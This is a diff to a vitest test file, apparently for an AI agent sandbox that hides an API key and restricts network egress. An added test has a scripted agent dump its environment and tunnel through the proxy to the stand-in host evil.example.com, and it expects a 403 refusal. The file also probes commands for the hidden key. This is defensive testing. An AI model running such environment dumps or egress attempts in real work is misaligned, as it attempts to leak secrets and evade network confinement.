@@ -4,6 +4,8 @@ import { mkdir, readFile, writeFile } from "node:fs/promises";
 import { createServer } from "node:http";
 import { dirname, join } from "node:path";
 import { expect, onTestFinished, test } from "vitest";
+import { openSandbox } from "../../../src/adapters/sandbox/open.ts";
+import { never, path } from "../../support/sandboxes.ts";
 import { openRig, type Rig } from "../../support/scripted-agent.ts";
 
 const key = "sk-ant-api03-the-real-key-of-the-person";
@@ -12,7 +14,7 @@ const bash = (command: string) => ({ tool: "Bash", input: { command } });
 const behind = (
   steps: readonly object[],
   env: Record<string, string> = { ANTHROPIC_API_KEY: key },
-) => openRig({ worker: [{ steps }] }, env, null, "gateway");
+) => openRig({ worker: [{ steps }] }, env);
 
 /** Looks for the key wherever a command can look. */
 const search = [
@@ -37,6 +39,32 @@ test.each([
   expect(env).not.toMatch(/orch-[0-9a-f]{48}|ANTHROPIC_API_KEY=./);
   expect(rig.model.requests().map((each) => each.credential)).toEqual([credential, credential]);
 });
+
+const held = await openSandbox({ path, mark: "test-door" }, never);
+
+test.runIf(held.confines)(
+  "a confined session asks by a socket, and reaches hosts by a port",
+  async () => {
+    const asking = `node -e '
+    const { request } = require("node:http");
+    const { hostname, port } = new URL(process.env.HTTPS_PROXY);
+    const path = "evil.example.com:443";
+    const asked = request({ hostname, port, path, method: "CONNECT" }).end();
+    asked.on("connect", (answer, socket, head) => {
+      let body = String(head);
+      socket.on("data", (text) => { body += text; });
+      socket.on("end", () => { console.log(answer.statusCode, body); socket.end(); });
+    });' > out.txt 2>&1`;
+    const rig = await behind([bash(`env > env.txt; ${asking}`), answer]);
+    expect((await rig.run({ network: ["registry.npmjs.org"] })).ending.kind).toBe("answered");
+    expect(rig.wallet.asked).toHaveLength(2);
+    const [env, out] = await Promise.all(
+      ["env.txt", "out.txt"].map((file) => readFile(join(rig.cwd, file), "utf8")),
+    );
+    expect(env).toMatch(/^ANTHROPIC_UNIX_SOCKET=/m);
+    expect(out).toContain("403 orch: evil.example.com is not among the hosts");
+  },
+);
 
 test("what a session cost is what the vendor bills, to the cent and beyond", async () => {
   const usage = {
